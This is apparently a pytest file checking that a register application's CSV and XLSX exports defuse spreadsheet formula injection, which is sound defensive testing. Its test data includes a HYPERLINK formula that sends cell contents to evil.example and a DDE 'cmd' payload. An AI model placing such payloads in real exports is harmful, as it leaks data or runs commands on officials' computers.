"""Exports never hand a spreadsheet a formula (OWASP "CSV Injection").

A register's data comes from applicants: a name such as ``=HYPERLINK("http://x",
"click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` opened from a CSV export would run in the
official's spreadsheet. A CSV text cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return gets a leading apostrophe (the spreadsheet shows the text, the
apostrophe hidden); numbers stay numbers. XLSX cells are typed: text is written as a
string cell, never as a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ipreg.schema.exports import Column, csv_chunks, header, inert, text, write_csv, write_xlsx

RULES = [
    # (the value, the CSV cell)
    ("=1+2", "'=1+2"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+7 495 000-00-00", "'+7 495 000-00-00"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    # not at the start, or no formula character: unchanged
    ("Мишка", "Мишка"),
    ("a=1+2", "a=1+2"),
    (" =1+2", " =1+2"),
    ("00042/TZ/0007", "00042/TZ/0007"),
    ("", ""),
    # numbers and dates are not text: unchanged
    (-5, "-5"),
    (-2.5, "-2.5"),
    (dt.date(2026, 3, 2), "2026-03-02"),
    (None, ""),
]


@pytest.mark.parametrize(("value", "cell"), RULES)
def test_a_csv_cell_starting_a_formula_gets_an_apostrophe(value: Any, cell: str) -> None:
    assert text(value) == cell


def test_the_rule_is_idempotent_and_covers_the_header() -> None:
    assert inert(inert("=1")) == "'=1"  # an apostrophe starts no formula
    assert header([Column("a", "=Title"), ("b", "Name")]) == ["'=Title", "Name"]


COLUMNS = [Column("name", "Name"), Column("count", "Count", kind="number")]
EVIL = ["=1+2", "@SUM(A1:A2)", "+1", "-1+1", "\t=1", "\r=1", "Мишка"]


async def _rows() -> AsyncIterator[dict[str, Any]]:
    for i, name in enumerate(EVIL):
        yield {"name": name, "count": -i}


async def test_the_csv_writers_write_every_text_cell_inert() -> None:
    out = io.StringIO()
    await write_csv(_rows(), COLUMNS, out)
    read = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in read[1:]] == [inert(name) for name in EVIL]
    assert [r[1] for r in read[1:]] == [str(-i) for i in range(len(EVIL))]
    streamed = b"".join([c async for c in csv_chunks(_rows(), COLUMNS, bom=False,
                                                     delimiter=";")]).decode()
    assert [r[0] for r in csv.reader(io.StringIO(streamed), delimiter=";")][1:] == [
        inert(name) for name in EVIL]


async def test_xlsx_writes_such_text_as_string_cells_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    await write_xlsx(_rows(), COLUMNS, str(path))
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # the text itself, no apostrophe needed (openpyxl shows a CR as Excel's `_x000D_`)
    assert [c.value.replace("_x000D_", "\r") for c in cells] == EVIL
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ("f")
    with zipfile.ZipFile(path) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
